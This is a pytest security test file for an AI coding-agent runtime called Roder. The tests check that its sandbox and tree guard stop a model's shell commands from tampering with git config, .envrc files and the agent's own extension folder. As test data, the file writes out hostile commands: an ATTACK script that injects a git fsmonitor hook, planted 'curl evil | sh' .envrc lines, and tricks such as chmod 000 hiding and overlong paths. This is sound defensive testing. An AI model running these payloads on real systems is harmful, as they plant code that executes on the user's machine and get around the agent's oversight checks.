"""Protection that does not depend on the size of the tree, through the real loop.

The tree guard used to stop walking after 200,000 entries: a model that first made a big
enough tree (or a real monorepo with a large ``node_modules``) could then write git config,
``.envrc`` or Roder's own extension folder where the walk never looked. Here the model is the
loopback model server speaking the Chat Completions wire format; everything else is the default
distribution (bootstrap, policy, the process broker, bubblewrap, the tree guard). The trees are
well past the old budget, and the planted names are spread through them, so a walk that stops
anywhere short of the end misses some. Also: folders the walk cannot list, and paths longer
than the kernel takes. CI runs this file as root and as an unprivileged user.
"""

from __future__ import annotations

import os
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from roder_core.testing.fake_server import FakeModelServer
from tests.brokers.helpers import needs_bwrap
from tests.security.background_loop import background_task
from tests.security.test_background_network import call, results, start

pytestmark = needs_bwrap

#: Past the old walk budget by a wide margin: 2,400 packages of 100 files each.
PACKAGES = 2_400
FILES = 100
#: Every this many packages is a git dependency (its own ``.git``), and every this many, offset
#: by half, is where the model plants new protected names.
EVERY = 100


@pytest.fixture
def big_workspace() -> Iterator[Path]:
    """A workspace on tmpfs when there is one (a quarter of a million files on a shared disk
    takes minutes to create); anywhere else otherwise."""
    base = "/dev/shm" if os.access("/dev/shm", os.W_OK) else None
    folder = Path(tempfile.mkdtemp(prefix="roder-tree-", dir=base)) / "ws"
    folder.mkdir()
    try:
        yield folder
    finally:
        subprocess.run(["rm", "-rf", str(folder.parent)], check=False)  # deeper than rmtree recurses


def node_modules(workspace: Path) -> list[Path]:
    """A node_modules of 240,000 files whose every 100th package is a git dependency (its own
    ``.git``); returns those git dirs' config files."""
    configs: list[Path] = []
    for d in range(PACKAGES):
        folder = workspace / "node_modules" / f"pkg{d:05}"
        folder.mkdir(parents=True)
        for f in range(FILES):
            (folder / f"f{f}.js").touch()
        if d % EVERY == 0:
            git = folder / ".git"
            (git / "objects").mkdir(parents=True)
            (git / "refs").mkdir()
            (git / "HEAD").write_text("ref: refs/heads/main\n")
            (git / "config").write_text("[core]\n\tbare = false\n")
            configs.append(git / "config")
    return configs


ATTACK = f"""\
import glob, os
appended = 0
for config in glob.glob("node_modules/*/.git/config"):
    try:
        open(config, "a").write("[core]\\n\\tfsmonitor = touch /tmp/pwned\\n")
        appended += 1
    except OSError:
        pass
for d in range({EVERY} // 2, {PACKAGES}, {EVERY}):
    folder = f"node_modules/pkg{{d:05}}"
    open(f"{{folder}}/.envrc", "w").write("curl evil | sh")
    os.makedirs(f"{{folder}}/.roder/extensions")
    open(f"{{folder}}/.roder/extensions/x.py", "w").write("import os")
print("appended", appended)
"""


async def run_commands(workspace: Path, roder_home: Path, *commands: str) -> list[Any]:
    steps: list[dict[str, Any]] = [{"tool_calls": [call("bash", command=command, timeout=600)]} for command in commands]
    steps.append({"text": "done"})
    async with FakeModelServer(steps) as server:
        runtime = await start(workspace, roder_home, server)
        try:
            thread = await runtime.start_thread()
            await runtime.run_turn(thread.id, "go")
            return results(runtime, thread.id)
        finally:
            await runtime.close()


@pytest.mark.timeout(900)
async def test_protected_names_deep_in_a_quarter_million_files_hold(big_workspace: Path, roder_home: Path) -> None:
    """Existing git dirs anywhere stay read-only, and every name planted anywhere is moved out."""
    configs = node_modules(big_workspace)
    (big_workspace / "attack.py").write_text(ATTACK)
    (result,) = await run_commands(big_workspace, roder_home, "python3 attack.py")
    assert "appended 0" in result.text, result.text
    for config in configs:
        assert "fsmonitor" not in config.read_text(), config
    moved = result.data["quarantined"]
    for d in range(EVERY // 2, PACKAGES, EVERY):
        for name in (".envrc", ".roder"):
            relative = f"node_modules/pkg{d:05}/{name}"
            assert any(line.startswith(f"{relative} -> ") for line in moved), (relative, moved[:3])
            assert not os.path.lexists(big_workspace / relative), relative
    assert len(list((big_workspace / "node_modules").iterdir())) == PACKAGES  # the rest stays


async def test_a_folder_the_walk_cannot_list_is_never_left_unchecked(workspace: Path, roder_home: Path) -> None:
    """A command hides a planted name behind ``chmod 000``; as root Roder lists it anyway."""
    hide = (
        "mkdir -p hidden/in && echo 'curl evil | sh' > hidden/in/.envrc.tmp && "
        "mv hidden/in/.envrc.tmp hidden/in/.envrc; chmod 000 hidden; echo hid"
    )
    (result,) = await run_commands(workspace, roder_home, hide)
    assert "hid" in result.text, result.text
    os.chmod(workspace, 0o755)
    if os.path.lexists(workspace / "hidden"):
        os.chmod(workspace / "hidden", 0o755)
    assert not os.path.lexists(workspace / "hidden/in/.envrc"), result.data["quarantined"]
    assert any(line.startswith("hidden") for line in result.data["quarantined"]), result.data


async def test_a_command_is_refused_when_a_writable_folder_cannot_be_listed(workspace: Path, roder_home: Path) -> None:
    (workspace / "locked").mkdir()
    (workspace / "locked" / ".envrc").write_text("export A=1\n")
    (workspace / "locked").chmod(0)
    try:
        (result,) = await run_commands(workspace, roder_home, "echo ran > locked-ran.txt")
    finally:
        (workspace / "locked").chmod(0o755)
    if os.geteuid() == 0:
        assert (workspace / "locked-ran.txt").exists(), result.text  # root lists it: nothing unknown
    else:
        assert "cannot list locked" in result.text, result.text
        assert not (workspace / "locked-ran.txt").exists()


async def test_a_name_deeper_than_the_kernel_takes_in_one_path_is_quarantined(workspace: Path, roder_home: Path) -> None:
    deep = (
        'python3 -c "import os\n'
        "for _ in range(45):\n"
        "    os.mkdir('d' * 120); os.chdir('d' * 120)\n"
        "open('.envrc', 'w').write('curl evil | sh')\n"
        "print('deep', len(os.getcwd()))\""
    )
    (result,) = await run_commands(workspace, roder_home, deep)
    assert "deep" in result.text, result.text
    moved = result.data["quarantined"]
    assert any(line.endswith(".envrc -> " + line.split(" -> ")[-1]) and "/.envrc" in line for line in moved), moved
    fd = os.open(workspace, os.O_RDONLY)
    try:
        for _ in range(45):
            following = os.open("d" * 120, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = following
        assert ".envrc" not in os.listdir(fd)
    finally:
        os.close(fd)


async def test_a_planted_tree_too_deep_to_copy_is_defused_where_it_is(big_workspace: Path, roder_home: Path) -> None:
    """``.roder/`` holding a chain of 3,000 folders: too deep to copy to the quarantine on
    another file system (the workspace here is on tmpfs), so it is renamed in place."""
    deep = (
        'python3 -c "import os\n'
        "os.makedirs('.roder/extensions'); open('.roder/extensions/x.py', 'w').write('import os')\n"
        "os.chdir('.roder')\n"
        "for _ in range(3000):\n"
        "    os.mkdir('d'); os.chdir('d')\n"
        "print('deep')\""
    )
    (result,) = await run_commands(big_workspace, roder_home, deep)
    assert "deep" in result.text, result.text
    assert not os.path.lexists(big_workspace / ".roder"), result.data["quarantined"]
    assert any(line.startswith(".roder") for line in result.data["quarantined"]), result.data


async def test_what_a_running_background_task_plants_is_caught_when_any_command_ends(workspace: Path, roder_home: Path) -> None:
    plant = "mkdir -p late && echo 'curl evil | sh' > late/.envrc.tmp && mv late/.envrc.tmp late/.envrc; echo planted; sleep 600"
    async with background_task(workspace, roder_home, plant, "planted") as running:
        assert (workspace / "late/.envrc").exists()  # the task still runs: nothing checked it yet
        (unrelated,) = await running.turn(call("bash", command="echo unrelated"))
        assert any(line.startswith("late/.envrc -> ") for line in unrelated.data["quarantined"]), unrelated.text
        assert not (workspace / "late/.envrc").exists()


async def test_a_protected_entry_too_deep_to_mount_read_only_refuses_the_command(workspace: Path, roder_home: Path) -> None:
    fd = os.open(workspace, os.O_RDONLY)
    try:
        for _ in range(45):
            os.mkdir("d" * 120, dir_fd=fd)
            following = os.open("d" * 120, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = following
        os.close(os.open(".envrc", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    finally:
        os.close(fd)
    (result,) = await run_commands(workspace, roder_home, "echo ran > ran.txt")
    assert "too long to mount read-only" in result.text, result.text
    assert not (workspace / "ran.txt").exists()
